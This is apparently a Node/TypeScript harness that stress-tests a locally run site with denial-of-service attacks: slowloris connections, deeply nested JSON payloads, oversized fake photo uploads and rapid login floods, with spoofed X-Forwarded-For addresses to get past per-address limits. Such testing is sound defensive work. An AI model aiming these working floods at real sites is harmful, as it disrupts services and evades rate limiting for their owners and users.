import { Agent, request } from 'node:http'
import { connect } from 'node:net'

/** The attacks that try to use up one resource of a site. */
export type Exhaustion = 'slowloris' | 'json' | 'log_in' | 'uploads'

/** Orders for an attacking process, as JSON in its first argument. */
export interface ExhaustionPlan {
  readonly kind: Exhaustion
  readonly port: number
  /** Connections, parallel requests, or log-in attempts per second. */
  readonly size: number
  /** Cookie headers of members, for uploads. */
  readonly members: readonly string[]
}

const plan = JSON.parse(process.argv[2] ?? '{}') as ExhaustionPlan
const { port, size, members } = plan
const agent = new Agent({ keepAlive: true, maxSockets: Math.max(size, 64) })
const statuses: Record<string, number> = {}
let sent = 0
let requests = 0
/** More than one person has, fewer than a network of hijacked devices. */
const addresses = 64

// Attacks until its parent ends it, from several addresses in turn. Sends 'ready' once it is at
// full strength, and the number of responses by status when asked.
const attacks: Record<Exhaustion, () => void> = {
  slowloris: () => repeat(size, slowConnection),
  json: () => repeat(size, () => post('/api/user.php', json, nested)),
  uploads: () =>
    repeat(size, () =>
      post(
        `/api/profile/photos?id=${uuid()}`,
        { ...asMember(), 'content-type': 'image/jpeg' },
        picture,
      ),
    ),
  log_in: () => void setInterval(attemptLogIns, 20),
}
const json = { 'content-type': 'application/json' }
const nested = `{"login":${'['.repeat(15_000)}${']'.repeat(15_000)},"password":"${'x'.repeat(30_000)}"}`
const picture = Buffer.alloc(8_000_000, 'not a picture')
const readyAfter = plan.kind === 'log_in' ? size : Math.min(size, 200)

attacks[plan.kind]()
process.on('message', () => process.send?.(statuses))
process.on('disconnect', () => process.exit())

function attemptLogIns(): void {
  for (let nth = 0; nth < size / 50; nth += 1)
    void post(
      '/api/user.php',
      json,
      JSON.stringify({ login: `${uuid()}@example.org`, password: 'x' }),
    )
}

/** Keeps this many of a task in progress. */
function repeat(count: number, task: () => Promise<void>): void {
  for (let nth = 0; nth < count; nth += 1) void forever(task)
}

async function forever(task: () => Promise<void>): Promise<void> {
  for (;;) await task()
}

function note(status: string): void {
  statuses[status] = (statuses[status] ?? 0) + 1
  sent += 1
  if (sent === readyAfter) process.send?.('ready')
}

/** Sends headers that never end, one line a second, until the site closes the connection. */
function slowConnection(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1')
    let drip: NodeJS.Timeout | undefined
    socket.on('connect', () => {
      note('opened')
      socket.write(`GET / HTTP/1.1\r\nHost: localhost:${port}\r\n`)
      drip = setInterval(() => socket.write(`X-${sent}: 1\r\n`), 1000)
    })
    socket.on('error', () => {})
    socket.on('close', () => {
      clearInterval(drip)
      // A refused connection is tried again after a moment, not at once.
      setTimeout(resolve, 100)
    })
    socket.resume()
  })
}

function post(
  path: string,
  headers: Readonly<Record<string, string>>,
  body: Buffer | string,
): Promise<void> {
  return new Promise((resolve) => {
    const host = `localhost:${port}`
    const outgoing = request({
      agent,
      host: '127.0.0.1',
      port,
      method: 'POST',
      path,
      headers: {
        host,
        origin: `http://${host}`,
        'x-forwarded-for': `203.0.113.${1 + (requests++ % addresses)}`,
        ...headers,
      },
    })
    const end = (status: string) => {
      note(status)
      resolve()
    }
    outgoing.on('response', (response) => {
      response.resume()
      response.on('close', () => end(String(response.statusCode)))
    })
    outgoing.on('error', () => setTimeout(() => end('error'), 20))
    outgoing.end(body)
  })
}

function asMember(): Record<string, string> {
  return { cookie: members[sent % members.length] ?? '' }
}

function uuid(): string {
  return crypto.randomUUID()
}
